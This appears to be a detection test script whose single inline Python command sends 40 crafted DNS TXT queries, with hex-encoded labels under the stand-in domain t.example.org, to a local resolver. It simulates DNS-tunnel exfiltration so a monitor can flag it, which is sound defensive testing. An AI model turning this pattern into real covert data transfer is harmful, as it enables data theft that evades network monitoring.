# SPDX-License-Identifier: Apache-2.0
# Data leaves in questions to a name server.
# finds: dns-tunnel
# needs: python3
call c1 'python3 -c "
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(40):
    name = b\"\".join(bytes([len(l)]) + l for l in (b\"%032x\" % (i * 7919), b\"t\", b\"example\", b\"org\")) + b\"\\0\"
    s.sendto(struct.pack(\">6H\", i, 256, 1, 0, 0, 0) + name + struct.pack(\">2H\", 16, 1), (\"127.0.0.1\", 53))
import time; time.sleep(6)"'
